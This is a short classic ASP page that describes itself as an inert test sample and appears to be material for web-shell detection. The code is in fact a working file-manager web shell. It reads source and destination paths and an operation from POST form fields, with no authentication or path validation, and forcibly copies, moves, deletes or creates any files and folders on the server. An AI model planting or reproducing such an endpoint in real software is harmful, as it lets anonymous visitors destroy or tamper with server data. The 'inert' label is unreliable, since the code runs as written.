<%
' Inert test sample: copies, moves and removes files and folders named in the request through
' small Subs; statements are joined with ":" and calls are written without parentheses.
Dim fs, src, dst, op
Set fs = Server.CreateObject("Scripting.FileSystemObject")

Sub Transfer(ByRef a, ByRef b, mode)
    If mode = "mv" Then fs.MoveFile a, b Else fs.CopyFile a, b, True
End Sub

Private Sub Drop(item)
    If fs.FolderExists(item) Then
        fs.DeleteFolder item, True
    Else
        fs.DeleteFile item, True
    End If
End Sub

src = Trim(Request.Form("src")) : dst = Trim(Request.Form("dst")) : op = Request.Form("op")
If op = "rm" Then
    Drop src
ElseIf op = "mkdir" Then
    fs.CreateFolder(dst)
Else
    Transfer src, dst, op
End If
Response.Write "done"
%>
